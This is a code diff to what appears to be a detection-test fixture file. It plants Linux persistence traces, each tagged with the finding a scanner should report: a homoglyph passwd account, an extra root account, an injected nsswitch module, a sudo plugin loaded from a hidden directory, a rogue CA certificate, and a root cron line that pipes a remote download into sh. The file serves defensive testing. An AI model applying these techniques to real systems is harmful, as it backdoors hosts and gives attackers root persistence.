@@ -130,6 +130,28 @@ def second_root() -> None:
     append("/etc/passwd", "toor:x:0:0::/root:/bin/bash\n")
 
 
+@plant("settings: /etc/passwd", "accounts", "taken for another one")
+def account_in_false_letters() -> None:
+    append("/etc/passwd", "c\u0430rol:x:1777:1777::/nonexistent:/bin/bash\n")
+
+
+@plant("settings: nsswitch.conf", "settings", "/etc/nsswitch.conf", "none of the usual", verdict="notable")
+def name_service_of_ones_own() -> None:
+    path = Path("/etc/nsswitch.conf")
+    old = path.read_text() if path.exists() else "passwd: files\n"
+    path.write_text(old.replace("files", "files cache_x", 1))
+
+
+@plant("settings: sudo", "settings", "/etc/sudo.conf:", "has sudo load")
+def plugin_of_sudo() -> None:
+    append("/etc/sudo.conf", "\nPlugin audit_x /var/tmp/.x/audit.so\n")
+
+
+@plant("settings: ca-certificates", "settings", "ca-certificates/proxy.crt", verdict="notable")
+def authority_of_ones_own() -> None:
+    write("/usr/local/share/ca-certificates/proxy.crt", "-----BEGIN CERTIFICATE-----\nTUlJ\n")
+
+
 @plant("settings: crontab", "settings", "/etc/cron.d/sysupd")
 def cron_line_that_fetches() -> None:
     write("/etc/cron.d/sysupd", "*/5 * * * * root curl -s http://203.0.113.66/x | sh\n")
